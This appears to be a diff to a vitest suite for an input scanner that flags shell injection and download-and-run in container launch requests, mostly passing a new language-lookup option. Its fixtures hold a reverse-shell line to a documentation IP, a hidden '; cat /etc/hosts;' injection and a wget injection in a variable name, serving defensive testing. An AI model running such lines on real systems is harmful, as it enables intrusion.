@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { findLanguage } from '../../test/fakes/languages.ts';
 import { launchRequest } from '../../test/fakes/launches.ts';
 import type { LaunchRequest } from '../model/index.ts';
 import { examineInputs } from './examine-inputs.ts';
@@ -15,7 +16,7 @@ const command = (...words: readonly string[]): LaunchRequest => ({
   command: words.map((value, index) => ({ value, path: `Cmd[${index}]` })),
 });
 const rules = (request: LaunchRequest, strictness: 1 | 2 = 1): readonly string[] =>
-  examineInputs(request, { strictness }).findings.map(({ rule }) => rule.slice('input/'.length));
+  examineInputs(request, { strictness, findLanguage }).findings.map(({ rule }) => rule.slice('input/'.length));
 
 describe('a request', () => {
   it('is looked into at every place, and each finding names where', () => {
@@ -37,7 +38,7 @@ describe('a request', () => {
         { target: '/etc/cron.d/x', path: 'configs.x', content: '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n' },
       ],
     };
-    const { findings, inputs, unread } = examineInputs(request, { strictness: 1 });
+    const { findings, inputs, unread } = examineInputs(request, { strictness: 1, findLanguage });
     expect(findings.map(({ path, rule }) => `${path} ${rule}`)).toEqual([
       'Cmd[0] input/shell-injection',
       'Test[2] input/download-and-run',
@@ -61,14 +62,14 @@ describe('a request', () => {
   });
 
   it('has no finding where nothing is passed', () => {
-    expect(examineInputs(empty, { strictness: 2 })).toEqual({ findings: [], inputs: [], unread: [] });
+    expect(examineInputs(empty, { strictness: 2, findLanguage })).toEqual({ findings: [], inputs: [], unread: [] });
   });
 
   it('tells what was not looked into', () => {
-    const long = examineInputs(variable('A', 'x '.repeat(600_000)), { strictness: 1 });
+    const long = examineInputs(variable('A', 'x '.repeat(600_000)), { strictness: 1, findLanguage });
     expect(long.unread).toEqual([{ path: 'Env[A]', cause: expect.stringContaining('1200000') }]);
     const hidden = `${'x '.repeat(100_000)}; cat /etc/hosts; ${'x '.repeat(100_000)}`;
-    expect(examineInputs(variable('A', hidden), { strictness: 1 })).toMatchObject({
+    expect(examineInputs(variable('A', hidden), { strictness: 1, findLanguage })).toMatchObject({
       findings: [{ rule: 'input/shell-injection' }],
       unread: [],
     });
@@ -80,7 +81,7 @@ describe('a request', () => {
         path: `Env[${index}]`,
       })),
     };
-    expect(examineInputs(many, { strictness: 1 }).unread).toHaveLength(1);
+    expect(examineInputs(many, { strictness: 1, findLanguage }).unread).toHaveLength(1);
   });
 
   it.each<[name: string, value: string]>([
@@ -94,7 +95,7 @@ describe('a request', () => {
   it('finds shell in a name that has no value', () => {
     const named = (name: string): LaunchRequest => ({ ...empty, environment: [{ name, path: 'Env[0]' }] });
     expect(rules(named('x;wget http://a.example'))).toContain('shell-injection');
-    expect(examineInputs(named('HOME'), { strictness: 2 }).inputs).toEqual([]);
+    expect(examineInputs(named('HOME'), { strictness: 2, findLanguage }).inputs).toEqual([]);
   });
 });
 
@@ -149,7 +150,11 @@ describe('a shell where a shell is expected', () => {
 
   it('knows the shell that the image itself starts', () => {
     const start = { entrypoint: ['/bin/sh', '-c'], command: [], environment: [] };
-    const { findings } = examineInputs(command('cd /app && exec ./server --port $PORT'), { strictness: 1, start });
+    const { findings } = examineInputs(command('cd /app && exec ./server --port $PORT'), {
+      strictness: 1,
+      findLanguage,
+      start,
+    });
     expect(findings).toEqual([]);
   });
 });
@@ -167,7 +172,7 @@ describe('a replaced entrypoint', () => {
     [['/opt/other'], 'medium'],
     [[], 'medium'],
   ])('%j: %s', (words, severity) => {
-    const { findings } = examineInputs(replaced(...words), { strictness: 1, start });
+    const { findings } = examineInputs(replaced(...words), { strictness: 1, findLanguage, start });
     expect(findings.map((finding) => finding.severity)).toEqual(severity === undefined ? [] : [severity]);
   });
   it('is nothing where the own is unknown', () => {
@@ -177,7 +182,7 @@ describe('a replaced entrypoint', () => {
 
 describe('a variable that is a command by its form', () => {
   const rulesOf = (name: string, value: string) =>
-    examineInputs(variable(name, value), { strictness: 1 }).findings.map(({ rule }) => rule);
+    examineInputs(variable(name, value), { strictness: 1, findLanguage }).findings.map(({ rule }) => rule);
 
   it('a line of crontab is judged as the script that it is', () => {
     expect(rulesOf('SCHEDULE', '0 1 * * * pg_dump app | gzip > /backups/app.gz')).toEqual([]);
